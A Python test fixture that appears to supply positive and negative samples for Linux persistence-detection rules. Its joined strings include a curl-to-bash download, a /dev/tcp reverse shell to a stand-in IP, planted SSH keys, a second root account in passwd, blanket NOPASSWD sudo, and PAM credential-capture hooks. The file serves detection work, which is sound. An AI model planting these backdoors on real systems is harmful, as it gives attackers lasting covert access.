"""Samples of rules/persistence."""

from tests.rules.sample import Sample, inert

CURL = ("cu", "rl -fsSL http://192.0.2.7/x | ba", "sh")
REVERSE = ("ba", "sh -i >& /dev/", "tcp/192.0.2.7/4444 0>&1")
DECODE = ("echo aWQ= | base", "64 -d | ba", "sh")
KEY = ("ssh-r", "sa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7vbqajDhA3u0mtOKXGb2Zx root@host")

SCHEDULE = (
    Sample(
        "Persistence_Cron_DownloadRun",
        (
            inert("SHELL=/bin/sh\n*/5 * * * * root ", *CURL, "\n"),
            inert("@reboot ", *DECODE, "\n"),
            inert("0 3 * * 1-5 root ba", "sh -c 'exec 3<>/dev/", "tcp/192.0.2.7/443'\n"),
            inert("0 * * * * ba", 'sh -c "$(cu', 'rl -s http://192.0.2.7/x)"\n'),
        ),
        (
            inert("*/5 * * * * root cu", "rl -fsS https://example.com/ping > /dev/null\n"),
            inert("17 * * * * root cd / && run-parts --report /etc/cron.hourly\n", *CURL),
        ),
        "etc/cron.d/update",
    ),
    Sample(
        "Persistence_Cron_TemporaryProgram",
        (
            inert("* * * * * root /t", "mp/.x/run > /dev/null 2>&1\n"),
            inert("@reboot /home/ann/.config", "rc5/sync >/dev/null", " 2>&1\n"),
        ),
        (
            inert("25 6 * * * root find /t", "mp -mtime +7 -delete\n"),
            inert("@reboot /home/ann/.local/bin/sync >/dev/null", " 2>&1\n"),
            inert(
                '9 0 * * * "/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null\n'
            ),
        ),
        "var/spool/cron/crontabs/root",
    ),
    Sample(
        "Persistence_Systemd_SuspiciousExec",
        (
            inert("[Unit]\n[Service]\nExec", "Start=/dev/shm/sshd -D\n"),
            inert("[Service]\nExec", "Start=/bin/bash -c '", *CURL, "'\n"),
            inert("[Service]\nExec", "Start=/usr/lib/.cache/kworker\n"),
        ),
        (
            inert("[Unit]\n[Service]\nExec", "Start=/usr/sbin/sshd -D\nWorkingDirectory=/tmp\n"),
            inert("[Service]\nExec", "Start=/usr/bin/find /tmp -delete\n"),
            inert("[Service]\nExec", "Start=/opt/app/.venv/bin/python -m app\n"),
        ),
        "etc/systemd/system/sshd-helper.service",
    ),
)

PRELOAD = (
    Sample(
        "Persistence_Preload_Entry",
        (inert("/lib/libselinux.so.8\n"), inert("\n/usr/lib/libjemalloc.so")),
        (inert("# nothing\n"), inert("libc6.so")),
        "etc/ld.so.preload",
    ),
    Sample(
        "Persistence_Preload_HiddenLibrary",
        (
            inert("export LD_PRE", "LOAD=/dev/shm/libx.so\n"),
            inert("LD_AU", "DIT=/usr/lib/.x/audit.so\n"),
            inert("#!/bin/sh\necho /lib/libx.so >> /etc/ld.so.", "preload\n"),
        ),
        (
            inert("export LD_PRE", "LOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n"),
            inert("#!/bin/sh\ncat /etc/ld.so.", "preload\n"),
        ),
        "etc/environment",
    ),
    Sample(
        "Persistence_Preload_HiddenLibrary",
        (inert("TERM=xterm\0LD_PRE", "LOAD=/tmp/libx.so\0HOME=/root\0"),),
        (inert("TERM=xterm\0LD_PRE", "LOAD=libfakeroot-sysv.so\0HOME=/tmp/x.so\0"),),
        filename="",
    ),
)

LOGIN = (
    Sample(
        "Persistence_Startup_DownloadRun",
        (
            inert("alias ls='ls --color'\n", *CURL, "\n"),
            inert("(", *REVERSE, ") &\n"),
            inert("noh", "up /dev/shm/.k -d &\n"),
        ),
        (
            inert("alias get='cu", 'rl -O\'\neval "$(dircolors -b)"\n'),
            inert(
                "[ -f ~/.nvm/nvm.sh ] && . ~/.nvm/nvm.sh\nnoh", "up ~/.dropbox-dist/dropboxd &\n"
            ),
        ),
        "home/ann/.bashrc",
    ),
    Sample(
        "Persistence_Startup_DownloadRun",
        (inert("#!/bin/sh\n", *DECODE, "\n"),),
        (inert("#!/bin/sh\nuname -snrvm\ncu", "rl -s https://motd.example.com/\n"),),
        "etc/update-motd.d/10-uname",
    ),
    Sample(
        "Persistence_Autostart_SuspiciousExec",
        (
            inert("[Desktop Entry]\nType=Application\nEx", "ec=/tmp/.x/agent\n"),
            inert("[Desktop Entry]\nEx", "ec=sh -c '", *CURL, "'\n"),
        ),
        (
            inert("[Desktop Entry]\nType=Application\nEx", "ec=/usr/bin/agent --dir=/tmp\n"),
            inert("[Desktop Entry]\nEx", "ec=sh -c 'sleep 5; nm-applet'\n"),
        ),
        "home/ann/.config/autostart/agent.desktop",
    ),
    Sample(
        "Persistence_AuthorizedKeys_Command",
        (
            inert("comm", 'and="', *REVERSE, '" ', *KEY, "\n"),
            inert("environ", 'ment="LD_PRE', 'LOAD=/home/ann/x.so" ', *KEY, "\n"),
        ),
        (
            inert("comm", 'and="/home/git/gitolite/src/gitolite-shell ann",no-pty ', *KEY, "\n"),
            inert("comm", 'and="/usr/bin/rrsync /srv/backup",no-pty ', *KEY, "\n"),
            inert("comm", 'and="', *CURL, '"\n'),
        ),
        "root/.ssh/authorized_keys",
    ),
    Sample(
        "Persistence_AuthorizedKeys_Implant",
        (
            inert(
                "chat",
                "tr -ia /root/.ssh/authorized_keys\necho '",
                *KEY,
                "' >> /root/.ssh/authori",
                "zed_keys\n",
            ),
            inert(
                "K='",
                *KEY,
                "'\necho $K > ~/.ssh/authori",
                "zed_keys; chat",
                "tr +i ~/.ssh/authorized_keys\n",
            ),
        ),
        (
            inert(
                "echo '",
                *KEY,
                "' >> /root/.ssh/authori",
                "zed_keys; chmod 600 /root/.ssh/authorized_keys\n",
            ),
            inert("chat", "tr +i /root/.ssh/authorized_keys\n"),
        ),
    ),
    Sample(
        "Persistence_Account_SecondRoot",
        (
            inert("root:x:0:0:root:/root:/bin/bash\nsys", "tem:x:0:0::/:/bin/bash\n"),
            inert(
                "root:x:0:0:root:/root:/bin/bash\nfire:fik57D3GJz/tk:0:0:pwned:/root:/bin/bash\n"
            ),
        ),
        (
            inert("root:x:0:0:root:/root:/bin/bash\nann:x:1000:1000::/home/ann:/bin/bash\n"),
            inert("root:fik57D3GJz/tk:0:0:root:/root:/bin/bash\n"),
            inert("root:x:0:0:root:/root:/bin/bash\nops:x:100:0::/home/ops:/bin/sh\n"),
        ),
        "etc/passwd",
    ),
    Sample(
        "Persistence_Sudoers_ServiceAccount",
        (
            inert("Defaults env_reset\nwww-data ALL=(ALL) NOPASS", "WD: ALL\n"),
            inert("ALL ALL=(ALL:ALL) NOPASS", "WD:ALL\n"),
        ),
        (
            inert("www-data ALL=(root) NOPASS", "WD: /usr/sbin/nginx -t\n"),
            inert("# www-data ALL=(ALL) NOPASS", "WD: ALL\n%admin ALL=(ALL) ALL\n"),
        ),
        "etc/sudoers.d/web",
    ),
    Sample(
        "Persistence_Pam_LoginBypass",
        (
            inert("auth optional pam_ex", "ec.so quiet expose_", "authtok /var/log/spy.sh\n"),
            inert("auth suffic", "ient pam_permit.so\n@include common-auth\n"),
            inert("session optional pam_ex", "ec.so quiet /tmp/.l/log\n"),
        ),
        (
            inert("auth required pam_permit.so\nauth requisite pam_deny.so\n"),
            inert("session optional pam_ex", "ec.so quiet /usr/local/sbin/notify\n"),
        ),
        "etc/pam.d/sshd",
    ),
)

POLKIT = (
    Sample(
        "Persistence_Polkit_AllowAll",
        (
            inert(
                "polkit.add",
                "Rule(function(action, subject) {\n  return polkit.Result.",
                "YES;\n});",
            ),
            inert(
                "polkit.add",
                'Rule(function(action, subject) {\n  if (subject.user == "ann") {\n    ',
            )
            + inert("return polkit.Result.", "YES; } });"),
            inert("[All]\nIdentity=unix-user:ann\nAction=", "*\nResultAny=", "yes\n"),
        ),
        (
            inert("polkit.add", 'Rule(function(action, subject) {\n  if (action.id == "a.b" && ')
            + inert('subject.isInGroup("sudo")) return polkit.Result.', "YES; });"),
            inert("[Net]\nIdentity=unix-group:net\nAction=org.x.*\nResultAny=", "yes\n"),
        ),
        "etc/polkit-1/rules.d/99-all.rules",
    ),
)

HOOKS = (
    Sample(
        "Persistence_Udev_Run",
        (
            inert('SUBSYSTEM=="net", RU', 'N+="/usr/bin/at -M -f /usr/bin/x now"\n'),
            inert("KERN", 'EL=="random", RU', 'N+="/usr/bin/x"\n'),
            inert('SUBSYSTEM=="net", RU', 'N+="/usr/lib/.x/start"\n'),
            inert(
                'ACTION=="add", ENV{MA', 'JOR}=="1", ENV{MINOR}=="8", RU', 'N+="asedexpb run:+"\n'
            ),
            inert("RU", "N+=\"/bin/sh -c 'echo /opt/x | at", " now'\"\n"),
        ),
        (
            inert('SUBSYSTEM=="net", RU', 'N+="/usr/lib/udev/net.agent"\n'),
            inert("ENV{MA", 'JOR}=="1", ENV{MINOR}=="3", RU', 'N+="/bin/true"\n'),
        ),
        "etc/udev/rules.d/99-net.rules",
    ),
    Sample(
        "Persistence_Git_Hook",
        (
            inert("#!/bin/sh\n", *CURL, "\n"),
            inert("#!/bin/bash\nnoh", "up ./x > /dev/null 2>&1 &\n"),
        ),
        (inert("#!/bin/sh\nnpm run lint\n"), inert("echo\n", *CURL, "\n")),
        "srv/app/.git/hooks/pre-commit",
    ),
    Sample(
        "Persistence_Git_Hook",
        (inert("[core]\n\tfsmon", 'itor = "', *CURL, '"\n'),),
        (inert("[core]\n\tfsmon", "itor = true\n\tsshCommand = ssh -i ~/.ssh/deploy\n"),),
        "srv/app/.git/config",
    ),
    Sample(
        "Persistence_Python_StartupFile",
        (
            inert("imp", "ort base64; ex", "ec(base64.b64", "decode('cHJpbnQoMSk='))\n"),
            inert("/srv/lib\nimp", "ort os; os.sys", "tem('/tmp/x &')\n"),
        ),
        (
            inert(
                "imp", "ort os; var = 'USE'; enabled = os.environ.get(var); __import__('hack')\n"
            ),
            inert("imp", "ort os, sys;ex", "ec('try: import cov\\nexcept ImportError: pass')\n"),
            inert("/srv/lib/base64\n"),
        ),
        "usr/lib/python3/dist-packages/fix.pth",
    ),
    Sample(
        "Persistence_Python_StartupFile",
        (inert("import zlib\nex", "ec(zlib.decompress(b'x'))\n"),),
        (inert("import sys\nsys.path.append('/srv/lib')\n"),),
        "usr/lib/python3.11/sitecustomize.py",
    ),
    Sample(
        "Persistence_PackageManager_Hook",
        (
            inert("import dnf\nimport os\nos.sys", "tem('setsid /usr/lib/x 2>/dev/null &')\n"),
            inert("APT::Update::Pre-", 'Invoke {"', *CURL, '";};\n'),
            inert("DPkg::Post-", 'Invoke {"noh', 'up /usr/local/bin/x >/dev/null 2>&1 &";};\n'),
        ),
        (
            inert(
                "DPkg::Post-", 'Invoke {"if [ -x /usr/bin/cache ]; then /usr/bin/cache; fi";};\n'
            ),
            inert("APT::Update::Pre-", 'Invoke {"/usr/lib/update-notifier/update-motd";};\n'),
        ),
        "etc/apt/apt.conf.d/99hook",
    ),
    Sample(
        "Persistence_Gsocket_Deployment",
        (
            inert("{ GS_A", "RGS='-liqD' ex", "ec -a '[kcached]' '/usr/bin/defunct'; } &\n"),
            inert("# SEED PR", "NG. #defunct-", "kernel\n"),
            inert("GS_A", "RGS='-k /etc/x.dat -liqD' gs-net", "cat -l -i\n"),
        ),
        (
            inert("ex", "ec -a '-bash' /bin/bash\n"),
            inert("ex", 'ec -a "$name" [kcached]\n'),
        ),
        "home/ann/.profile",
    ),
)

SAMPLES: tuple[Sample, ...] = (*SCHEDULE, *PRELOAD, *LOGIN, *POLKIT, *HOOKS)
